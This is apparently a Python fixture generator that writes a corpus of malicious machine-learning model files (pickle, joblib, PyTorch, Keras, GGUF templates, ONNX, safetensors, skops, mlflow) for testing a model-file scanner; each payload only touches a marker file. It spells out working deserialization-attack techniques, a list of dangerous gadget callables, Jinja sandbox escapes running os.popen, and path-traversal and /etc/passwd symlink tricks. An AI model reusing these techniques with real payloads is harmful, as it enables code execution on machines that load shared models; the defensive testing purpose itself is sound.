"""Files of models that would do harm, or hide that they do, made of bytes: ``python -m … DIRECTORY MARKER``.

All that any of them does is to touch the marker, so a test can show that nobody ran it. Each is a directory of files.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

from archive_assembly import central_name, lz4_frame, protobuf, seven_zip, with_hidden_member, zipped
from pickle_assembly import call, data, dtype, named, number, pickled, short, stacked, text, wrapper

Files = dict[str, bytes]


def one(name: str, content: bytes) -> Files:
    """Return a directory of one file."""
    return {name: content}


def system(marker: str) -> bytes:
    """Push what touches the marker."""
    return call(named("posix", "system"), text(f"touch {marker}"))


def pickles(marker: str) -> Iterator[tuple[str, Files]]:
    """Yield pickles of every protocol and every opcode that reaches a name."""
    command, do = f"touch {marker}", system(marker)
    run = text(command)
    evil = pickled(do)
    yield "system in a dict", one("model.pkl", pickled(b"}" + text("w") + do + b"s", protocol=2))
    yield (
        "protocol 0",
        one("model.pkl", b'c__builtin__\neval\n(S\'__import__("os").system("' + command.encode() + b"\")'\ntR."),
    )
    yield "protocol 1", one("model.pkl", b"cos\nsystem\n(U" + bytes([len(command)]) + command.encode() + b"tR.")
    yield "protocol 3", one("model.pkl", pickled(do, protocol=3))
    yield (
        "stack global",
        one("model.pkl", pickled(call(stacked("builtins", "exec"), text(f"import os; os.system({command!r})")))),
    )
    yield "protocol 5 in frames", one("model.pkl", b"\x80\x05\x95" + struct.pack("<Q", len(do) + 1) + do + b".")
    yield "inst", one("model.pkl", pickled(b"(" + run + b"ios\nsystem\n", protocol=1))
    yield "obj", one("model.pkl", pickled(b"(" + named("os", "system") + run + b"o", protocol=1))
    yield "newobj", one("model.pkl", pickled(named("subprocess", "Popen") + run + b"\x85\x81"))
    yield (
        "newobj with names",
        one(
            "model.pkl",
            pickled(
                named("subprocess", "Popen") + b")" + b"}" + text("args") + run + text("shell") + b"\x88" + b"\x92"
            ),
        ),
    )
    memo = short("os") + b"\x94" + b"0" + short("system") + b"\x94" + b"0" + b"h\x00h\x01\x93"
    yield "names out of the memo", one("model.pkl", pickled(call(memo, run)))
    joined = call(named("builtins", "str"), text("os"))
    yield "a name that is computed", one("model.pkl", pickled(call(joined + short("system") + b"\x93", run)))
    yield (
        "a method of a text as a name",
        one(
            "model.pkl",
            pickled(
                call(
                    call(call(named("builtins", "getattr"), text("o"), text("__add__")), text("s"))
                    + short("system")
                    + b"\x93",
                    run,
                )
            ),
        ),
    )
    yield "an extension", one("model.pkl", pickled(call(b"\x82\x07", run), protocol=2))
    yield "a persistent id", one("model.pkl", pickled(b"Pos.system\n", protocol=1))
    yield "pickle.loads", one("model.pkl", pickled(call(named("pickle", "loads"), data(evil))))
    yield "loads under another name", one("model.pkl", pickled(call(named("_pickle", "loads"), data(evil))))
    yield "a pickle in bytes of a model", one("model.pkl", pickled(b"}" + text("handle") + data(evil) + b"s"))
    yield "the second pickle", one("model.pkl", pickled(text("fine")) + evil)
    yield "the third pickle", one("model.pkl", pickled(text("fine")) * 2 + evil)
    yield "behind padding", one("model.pkl", pickled(text("fine")) + bytes(64) + evil)
    yield "behind noise", one("model.pkl", pickled(text("fine")) + b"\xff\xfe\xfd" * 5 + evil)
    yield "a pickle that breaks off after it", one("model.pkl", b"\x80\x04" + do + b"\x8c\xff")
    yield "a pickle that makes no sense after it", one("model.pkl", b"\x80\x04" + do + b"u.")
    yield (
        "builds a class of a library",
        one(
            "model.pkl",
            pickled(
                named("sklearn.base", "BaseEstimator") + b"N}" + text("predict") + named("os", "system") + b"s\x86b"
            ),
        ),
    )
    yield (
        "changes a class of a library",
        one(
            "model.pkl",
            pickled(
                named("sklearn.base", "BaseEstimator") + b"N}" + text("predict") + named("numpy", "log1p") + b"s\x86b"
            ),
        ),
    )
    yield (
        "fills a module's own dict",
        one("model.pkl", pickled(named("sklearn", "_config") + text("a") + text("b") + b"s")),
    )
    yield (
        "getattr",
        one("model.pkl", pickled(call(call(named("builtins", "getattr"), named("os", "path"), text("os")), run))),
    )
    attribute = call(named("builtins", "getattr"), call(named("builtins", "__import__"), text("os")), text("system"))
    yield "calls what getattr gave", one("model.pkl", pickled(call(attribute, run)))
    yield "partial", one("model.pkl", pickled(call(call(named("functools", "partial"), named("os", "system"), run))))
    code = marshal.dumps(compile(f"__import__('os').system({command!r})", "x", "exec"))
    function = call(named("types", "FunctionType"), call(named("marshal", "loads"), data(code)), b"}")
    yield "a function of marshalled code", one("model.pkl", pickled(call(function)))
    carried = call(
        named("cloudpickle.cloudpickle", "_make_function"),
        call(named("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType")),
        b"}",
    )
    yield "a function of cloudpickle's that is called", one("model.pkl", pickled(call(carried)))
    yield (
        "a function of dill's",
        one("model.pkl", pickled(call(named("dill._dill", "_create_function"), data(code), b"}"))),
    )
    yield "a class of nobody's", one("model.pkl", pickled(call(named("acme_models.core", "Model"), run)))
    yield "a class of the program", one("model.pkl", pickled(named("__main__", "Net") + b")\x81}b"))


GADGETS = {
    "runpy": ("runpy", "run_path"),
    "pip": ("pip", "main"),
    "numpy.load": ("numpy", "load"),
    "numpy.memmap": ("numpy", "memmap"),
    "numpy runs a text": ("numpy.testing._private.utils", "runstring"),
    "torch.load": ("torch.serialization", "load"),
    "torch.hub": ("torch.hub", "load"),
    "torch builds": ("torch.utils.cpp_extension", "load_inline"),
    "torch opens a package": ("torch.package", "PackageImporter"),
    "a graph of torch's out of a text": ("torch.fx.graph_module", "reduce_graph_module"),
    "torch.os": ("torch", "os.system"),
    "a module through scikit-learn": ("sklearn.utils.fixes", "os.system"),
    "joblib.load": ("joblib", "load"),
    "pandas.read_pickle": ("pandas", "read_pickle"),
    "pandas evaluates": ("pandas.core.computation.eval", "eval"),
    "asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    "timeit": ("timeit", "timeit"),
    "importlib": ("importlib", "import_module"),
    "webbrowser": ("webbrowser", "open"),
    "socket": ("socket", "create_connection"),
    "ctypes": ("ctypes", "CDLL"),
    "pty": ("pty", "spawn"),
    "code": ("code", "InteractiveInterpreter.runcode"),
    "codeop": ("codeop", "compile_command"),
    "methodcaller": ("operator", "methodcaller"),
    "attrgetter": ("operator", "attrgetter"),
    "shutil": ("shutil", "rmtree"),
    "multiprocessing": ("multiprocessing.util", "spawnv_passfds"),
    "cProfile": ("cProfile", "run"),
    "profile": ("profile", "run"),
    "pdb": ("pdb", "run"),
    "bdb": ("bdb", "Bdb.run"),
    "trace": ("trace", "Trace.run"),
    "doctest": ("doctest", "debug_script"),
    "idlelib": ("idlelib.pyshell", "ModifiedInterpreter.runcommand"),
    "ensurepip": ("ensurepip", "_run_pip"),
    "logging.config": ("logging.config", "dictConfig"),
    "make_dataclass": ("dataclasses", "make_dataclass"),
    "typing": ("typing", "ForwardRef._evaluate"),
    "pydoc": ("pydoc", "pipepager"),
    "gettext": ("gettext", "c2py"),
    "mailcap": ("mailcap", "findmatch"),
    "_osx_support": ("_osx_support", "_read_output"),
    "distutils": ("distutils.spawn", "spawn"),
    "unittest": ("unittest", "main"),
    "zipimport": ("zipimport", "zipimporter"),
    "sqlite3": ("sqlite3", "connect"),
    "urllib": ("urllib.request", "urlopen"),
    "commands of Python 2": ("commands", "getoutput"),
    "sys": ("sys", "setprofile"),
    "threading": ("threading", "Timer"),
    "uuid": ("uuid", "_get_command_stdout"),
    "venv": ("venv", "create"),
    "lib2to3 or what replaces it": ("lib2to3.main", "main"),
    "sympy": ("sympy", "sympify"),
    "transformers loads": ("transformers.dynamic_module_utils", "get_class_from_dynamic_module"),
    "keras fetches": ("keras.src.utils.file_utils", "get_file"),
    "sklearn fetches": ("sklearn.datasets", "fetch_openml"),
    "pathlib": ("pathlib", "Path.write_text"),
    "io": ("io", "FileIO"),
}
"""Names that run, open, fetch or change something when they are called."""


def gadgets(marker: str) -> Iterator[tuple[str, Files]]:
    """Yield a pickle that calls each of them."""
    for title, (module, name) in GADGETS.items():
        yield title, one("model.pkl", pickled(call(stacked(module, name), text(f"touch {marker}"))))


def arrays(marker: str) -> Iterator[tuple[str, Files]]:
    """Yield payloads behind, inside and instead of arrays."""
    do, evil = system(marker), pickled(system(marker))
    array = wrapper(dtype("f8"), 3) + struct.pack("<3d", 1.5, 2.5, 3.5)
    aligned = wrapper(dtype("f8"), 2, aligned=True) + b"\x05" + b"\xff" * 5 + struct.pack("<2d", 1.5, 2.5)
    spawn = call(named("subprocess", "call"), b"]" + text("touch") + b"a" + text(marker) + b"a")
    listed = b"](" + array + spawn + b"e"
    yield "joblib, behind an array", one("model.joblib", pickled(listed))
    yield "joblib, behind an aligned array", one("model.joblib", pickled(b"](" + aligned + spawn + b"e"))
    yield "joblib, in an array of objects", one("model.joblib", pickled(wrapper(dtype("O8"), 1) + evil))
    hidden = do + b"0" + b"N" * 8
    hidden += b"N" * (-len(hidden) % 8)
    yield (
        "joblib, numbers that are opcodes to pickle.load",
        one("model.joblib", pickled(wrapper(dtype("f8"), len(hidden) // 8) + hidden)),
    )
    for name, pack in {
        "zlib": zlib.compress, "gzip": gzip.compress, "bzip2": bz2.compress, "xz": lzma.compress,
        "lzma": lambda raw: lzma.compress(raw, lzma.FORMAT_ALONE), "lz4": lz4_frame,
    }.items():  # fmt: skip
        yield f"joblib, {name}", one("model.joblib", pack(pickled(listed)))
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + evil
    yield "npy of objects", one("rows.npy", npy)
    yield "npz of objects", one("rows.npz", zipped({"a.npy": npy}))


def torches(marker: str) -> Iterator[tuple[str, Files]]:
    """Yield PyTorch's formats."""
    evil, fine = pickled(system(marker), protocol=2), pickled(b"}", protocol=2)
    base = {"model/version": b"3\n", "model/byteorder": b"little", "model/data/0": bytes(64)}
    yield "torch", one("model.pt", zipped({"model/data.pkl": evil, **base}))
    yield "torch, another member", one("model.pt", zipped({"model/data.pkl": fine, "model/notes": evil, **base}))
    yield (
        "torch, a member deep below",
        one("model.pt", zipped({"model/data.pkl": fine, "model/.data/x/y.bin": evil, **base})),
    )
    yield (
        "torch, where numbers should be",
        one("model.pt", zipped({**base, "model/data.pkl": fine, "model/data/0": evil})),
    )
    yield "torch, compressed", one("model.pt", zipped({"model/data.pkl": evil, **base}, method=zipfile.ZIP_DEFLATED))
    whole = zipped({"model/data.pkl": evil, **base})
    at = whole.rfind(b"PK\x01\x02")
    first = whole.find(b"PK\x01\x02")
    yield "zip, a wrong checksum", one("model.pt", whole[: first + 16] + b"\1\2\3\4" + whole[first + 20 :])
    flagged = bytearray(whole)
    flagged[first + 8] |= 1
    yield "zip, marked as encrypted", one("model.pt", bytes(flagged))
    flagged[6] |= 1
    yield "zip, marked as encrypted twice", one("model.pt", bytes(flagged))
    yield "zip, two names for one member", one("model.pt", central_name(whole, b"model/data.pkl", b"model/data.txt"))
    yield (
        "zip, a member that the list does not have",
        one("model.pt", with_hidden_member(zipped({"model/data.pkl": fine, **base}), "model/data.pkl", evil)),
    )
    yield "zip, behind something else", one("model.bin", b"\x89PNG\r\n\x1a\n" + bytes(100) + whole)
    yield "zip, in a zip", one("model.zip", zipped({"inner.zip": zipped({"deeper.zip": whole})}))
    yield "zip, broken list", one("model.pt", whole[:at])
    old = [
        pickled(b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19", protocol=2),
        pickled(b"M\xe9\x03", protocol=2),
        fine,
        evil,
        pickled(b"]", protocol=2),
    ]
    yield "torch of old", one("model.pt", b"".join(old) + bytes(100))
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, content in {
            "sys_info": fine,
            "storages": pickled(number(0)),
            "tensors": pickled(number(0)),
            "pickle": evil,
        }.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    yield "torch of older", one("model.pt", made.getvalue())
    yield "tar, gzip", one("model.tar.gz", gzip.compress(made.getvalue()))
    yield "7z", one("model.7z", seven_zip({"model.pkl": evil}))
    yield "7z under the name of torch", one("model.pt", seven_zip({"model.pt": whole}))
    script = b'class Net(Module):\n  def forward(self, x):\n    y = ops.aten.from_file("/etc/passwd")\n    ops.aten.save(x, "/tmp/out")\n    return x\n'
    yield (
        "torchscript",
        one(
            "model.pt",
            zipped(
                {
                    "m/data.pkl": pickled(named("__torch__", "Net") + b")\x81", protocol=2),
                    "m/constants.pkl": fine,
                    "m/code/__torch__.py": script,
                    "m/version": b"3",
                }
            ),
        ),
    )
    yield (
        "torch export",
        one(
            "model.pt2",
            zipped(
                {
                    "m/models/model.json": b"{}",
                    "m/data/constants/c.pt": zipped({"c/data.pkl": evil}),
                    "m/data/sample_inputs/model.pt": evil,
                }
            ),
        ),
    )
    leading = io.BytesIO()
    with tarfile.open(fileobj=leading, mode="w") as archive:
        info = tarfile.TarInfo("../../.bashrc")
        archive.addfile(info)
        link = tarfile.TarInfo("weights")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    yield "tar, paths that lead out", one("model.tar", leading.getvalue())
    yield "zip, paths that lead out", one("model.zip", zipped({"../../.bashrc": b"x"}))


def configured(marker: str) -> Iterator[tuple[str, Files]]:
    """Yield Keras, graphs, templates and schemas."""
    code = base64.b64encode(marshal.dumps(compile(f"__import__('os').system('touch {marker}')", "x", "exec"))).decode()
    layer = {
        "class_name": "Lambda",
        "config": {"name": "lambda", "function": [code, None, None], "function_type": "lambda"},
    }
    new = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": code}}},
        "registered_name": None,
    }
    shell = {"module": "subprocess", "class_name": "function", "config": "run", "registered_name": "function"}
    loop = {
        "module": "builtins",
        "class_name": "dict",
        "config": {
            "rate": {
                "module": "os",
                "class_name": "system",
                "config": {"command": f"touch {marker}"},
                "registered_name": "system",
            }
        },
        "registered_name": None,
    }

    def keras(*layers: object) -> bytes:
        config = {
            "module": "keras",
            "class_name": "Sequential",
            "config": {"name": "s", "layers": list(layers)},
            "registered_name": "Sequential",
        }
        return zipped(
            {
                "metadata.json": b"{}",
                "config.json": json.dumps(config).encode(),
                "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(64),
            }
        )

    old = {"class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}
    yield "keras, a lambda", one("model.keras", keras(new))
    yield "keras, a function of a module", one("model.keras", keras(shell))
    yield "keras, a class of a module", one("model.keras", keras(loop))
    yield (
        "keras, a function that fetches",
        one("model.keras", keras({**shell, "module": "keras.src.utils.file_utils", "config": "get_file"})),
    )
    yield (
        "keras, a vocabulary elsewhere",
        one(
            "model.keras",
            keras(
                {
                    "module": "keras.layers",
                    "class_name": "StringLookup",
                    "config": {"vocabulary": "/etc/passwd"},
                    "registered_name": None,
                }
            ),
        ),
    )
    yield (
        "keras, a class of nobody's",
        one(
            "model.keras",
            keras({"module": "acme.layers", "class_name": "Gate", "config": {}, "registered_name": "Acme>Gate"}),
        ),
    )
    yield "h5, a lambda", one("model.h5", b"\x89HDF\r\n\x1a\n" + bytes(300) + json.dumps(old).encode() + bytes(60))

    def operation(name: str, kind: str) -> tuple[int, bytes]:
        return 1, protobuf((1, name.encode()), (2, kind.encode()))

    for kind in ("ReadFile", "WriteFile", "PyFunc"):
        graph = protobuf(operation("x", "Placeholder"), operation("y", kind))
        yield f"savedmodel, {kind}", one("saved_model.pb", protobuf((1, 1), (2, protobuf((2, graph)))))
    function = protobuf(
        (2, protobuf((1, protobuf((3, protobuf((1, b"n"), (2, b"WriteFile"))))))), operation("x", "Placeholder")
    )
    yield "savedmodel, in a function", one("saved_model.pb", protobuf((1, 1), (2, protobuf((2, function)))))
    outside = protobuf((8, b"w"), (2, 1), (13, protobuf((1, b"location"), (2, b"../../../etc/passwd"))), (14, 1))
    yield (
        "onnx, data that lie outside",
        one(
            "model.onnx",
            protobuf((1, 8), (8, protobuf((2, 17))), (7, protobuf((1, protobuf((4, b"Add"))), (5, outside)))),
        ),
    )
    node = protobuf((4, b"Run"), (7, b"acme.ops"))
    yield (
        "onnx, operators of nobody's",
        one("model.onnx", protobuf((1, 8), (8, protobuf((2, 17))), (7, protobuf((1, node))))),
    )
    inner = protobuf((1, b"then_branch"), (6, protobuf((1, node), (5, outside))))
    yield (
        "onnx, in a branch",
        one(
            "model.onnx", protobuf((1, 8), (8, protobuf((2, 17))), (7, protobuf((1, protobuf((4, b"If"), (5, inner))))))
        ),
    )
    template = "{% for m in messages %}{{ m.content }}{% endfor %}{{ ''.__class__.__mro__[1].__subclasses__() }}"
    hidden = "{{ cycler|attr('\\x5f\\x5finit\\x5f\\x5f') }}"
    yield "gguf, a template", one("model.gguf", gguf({"tokenizer.chat_template": template}))
    yield "gguf, a template that hides it", one("model.gguf", gguf({"tokenizer.chat_template": hidden}))
    yield "a template of a tokenizer's", one("tokenizer_config.json", json.dumps({"chat_template": template}).encode())
    yield "a template in a file", one("chat_template.jinja", b"{{ lipsum.__globals__['os'].popen('id') }}")
    yield "skops, a function", one("model.skops", skops("posix", "system", "FunctionNode"))
    yield "skops, a class of nobody's", one("model.skops", skops("acme.models", "Model", "ObjectNode"))
    yield "skops, a method", one("model.skops", skops("builtins", "eval", "OperatorFuncNode"))


def gguf(facts: dict[str, str]) -> bytes:
    """Return a GGUF file of texts."""
    made = b"GGUF" + struct.pack("<IQQ", 3, 0, len(facts))
    for key, value in facts.items():
        made += struct.pack("<Q", len(key)) + key.encode() + struct.pack("<IQ", 8, len(value.encode())) + value.encode()
    return made


def skops(module: str, name: str, loader: str) -> bytes:
    """Return an archive of skops' with one node."""
    content = {"module_path": module, "function": name} if loader == "FunctionNode" else {}
    schema = {
        "__class__": name,
        "__module__": module,
        "__loader__": loader,
        "content": content,
        "protocol": 2,
        "_skops_version": "0.11",
    }
    return zipped({"schema.json": json.dumps(schema).encode()})


def safe(header: object, size_bytes: int = 16) -> bytes:
    """Return a safetensors file."""
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + bytes(size_bytes)


def layouts(marker: str) -> Iterator[tuple[str, Files]]:
    """Yield directories and files of other kinds."""
    evil = pickled(system(marker))
    f32 = {"dtype": "F32", "shape": [2]}
    yield (
        "safetensors, one over the other",
        one("model.safetensors", safe({"a": {**f32, "data_offsets": [0, 8]}, "b": {**f32, "data_offsets": [4, 12]}})),
    )
    yield "safetensors, behind the end", one("model.safetensors", safe({"a": {**f32, "data_offsets": [4096, 4104]}}))
    yield (
        "safetensors, bytes of nobody's",
        one("model.safetensors", safe({"a": {**f32, "data_offsets": [0, 8]}}, 8) + evil),
    )
    yield "safetensors, in truth a pickle", one("model.safetensors", evil)
    yield "a pickle called a text", one("vocab.txt", evil)
    yield (
        "a pickle of protocol 0 called a text",
        one("labels.txt", b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."),
    )
    yield "a pickle called a picture", one("preview.png", evil)
    yield (
        "mlflow, a loader",
        {"MLmodel": b"flavors:\n  python_function:\n    loader_module: acme_loader\n", "data/model.txt": b"x"},
    )
    yield "mlflow, a loader of Python's", {"MLmodel": b"flavors:\n  python_function:\n    loader_module: os\n"}
    yield (
        "mlflow, code",
        {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n",
            "code/helper.py": b"import os\n",
        },
    )
    yield "requirements from elsewhere", {"requirements.txt": b"numpy==2.0\nacme @ git+https://example.org/acme\n"}
    yield "another index", {"requirements.txt": b"--extra-index-url https://example.org/simple\nnumpy\n"}
    yield "a conda file from elsewhere", {"conda.yaml": b"dependencies:\n- pip:\n  - https://example.org/acme.whl\n"}
    yield (
        "hugging face, remote code",
        {
            "config.json": json.dumps({"auto_map": {"AutoModel": "modeling.Net"}}).encode(),
            "modeling.py": b"class Net: pass\n",
        },
    )
    yield (
        "hugging face, weights elsewhere",
        {"model.safetensors.index.json": json.dumps({"weight_map": {"a": "../../other/model.bin"}}).encode()},
    )
    yield "a source that runs", {"setup.py": f"import subprocess as s\ns.run(['touch', {marker!r}])\n".encode()}
    yield "a source that evaluates", {"tokenizer.py": b"import base64\nexec(base64.b64decode('cGFzcw=='))\n"}
    yield "a script", {"install.sh": f"#!/bin/sh\ntouch {marker}\n".encode()}
    yield "a library of the machine's", {"ops.so": b"\x7fELF\x02\x01\x01" + bytes(100)}
    yield "a program called a model", {"model.pt": b"\x7fELF\x02\x01\x01" + bytes(100)}
    yield "a program of Windows'", {"run.exe": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(60)}
    yield "a program of macOS'", {"lib.dylib": b"\xcf\xfa\xed\xfe" + bytes(100)}
    yield "compiled Python", {"model.pyc": b"\xa7\x0d\r\n" + bytes(12) + marshal.dumps(compile("1", "x", "exec"))}
    token = "hf_" + "a1B2" * 9
    yield "a secret", {"config.json": json.dumps({"token": token}).encode()}
    yield "a model that is noise", one("model.pkl", bytes(range(256)))
    yield "a link that leads out", {"weights.bin": b"\0symlink ../../../../etc/passwd"}


def corpus(marker: str) -> dict[str, Files]:
    """Return every directory of files by its title."""
    return dict(each for part in (pickles, gadgets, arrays, torches, configured, layouts) for each in part(marker))


def write(directory: Path, marker: str) -> None:
    """Write every directory of files."""
    for title, files in corpus(marker).items():
        for name, content in files.items():
            path = directory / title.replace("/", "-") / name
            path.parent.mkdir(parents=True, exist_ok=True)
            if content.startswith(b"\0symlink "):
                os.symlink(content.split(b" ", 1)[1].decode(), path)
            else:
                path.write_bytes(content)


if __name__ == "__main__":
    write(Path(sys.argv[1]), sys.argv[2])
